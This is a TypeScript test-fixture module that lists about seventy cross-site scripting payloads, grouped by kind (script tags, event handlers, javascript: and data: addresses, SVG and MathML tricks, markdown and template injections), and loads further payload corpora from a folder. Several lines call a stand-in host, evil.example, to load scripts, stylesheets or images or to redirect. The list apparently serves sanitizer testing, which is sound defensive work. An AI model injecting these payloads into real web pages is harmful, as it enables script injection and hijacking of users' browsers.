// Texts that attack a browser: a short list with examples of each kind, and collections of attacks that others have written. The caller
// names their folder.
import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";

/** At least one attack of each kind: elements, event handlers, addresses, broken markup, old browsers, SVG and MathML, plain fields. */
export const attacks: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '"><script>alert(1)</script>',
  "]]><script>alert(1)</script><![CDATA[",
  "--><img src=x onerror=alert(1)>",
  "</title><img src=x onerror=alert(1)>",
  "</textarea></style></noscript><img src=x onerror=alert(1)>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  '<img src="https://evil.example/pixel.png">',
  '<img srcset="https://evil.example/a.png 2x" src=x>',
  '<picture><source srcset="https://evil.example/a.png"><img src=x></picture>',
  "<video autoplay poster=https://evil.example/a.png><source onerror=alert(1)></video>",
  "<audio src=https://evil.example/a.mp3 autoplay onerror=alert(1)></audio>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<p style="background:url(https://evil.example/a.png)">',
  '<div style="position:fixed;inset:0">',
  '<form action="https://evil.example/"><input autofocus onfocus=alert(1)><button>',
  '<button form=x formaction="javascript:alert(1)">',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  '<body background="https://evil.example/a.png">',
  "<marquee onstart=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  "[x](javascript:alert(1))",
  "![x](https://evil.example/a.png)",
  '![x](x.png" onerror="alert(1))',
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "javascript:alert(1)",
  "https://evil.example/a.png",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  '<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;',
  "&lt;img src=x onerror=alert(1)&gt;",
  "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
  "\u003cimg src=x onerror=alert(1)\u003e",
  "<\u2060img src=x onerror=alert(1)>",
  "<\u0000img src=x onerror=alert(1)>",
  "<img\u000Csrc=x\u000Conerror=alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  '{{< figure src="javascript:alert(1)" >}}',
];

/** Files in the caller's folder. Each line of them is an attack. */
const corpora = [
  "cure53+H5SC/vectors.txt",
  "payloadbox+xss-payload-list/Intruder/xss-payload-list.txt",
] as const;

/** @param folder the folder that contains the repositories, as OWNER+NAME. Those that are not there are listed in `missing` */
export function readCorpora(folder: string): {
  readonly texts: readonly string[];
  readonly missing: readonly string[];
} {
  const found = corpora.filter((file) => existsSync(join(folder, file)));
  const lines = found.flatMap((file) => readFileSync(join(folder, file), "utf8").split("\n"));
  const texts = [...new Set(lines.map((line) => line.trim()).filter((line) => line !== ""))];
  return { texts, missing: corpora.filter((file) => !found.includes(file)) };
}
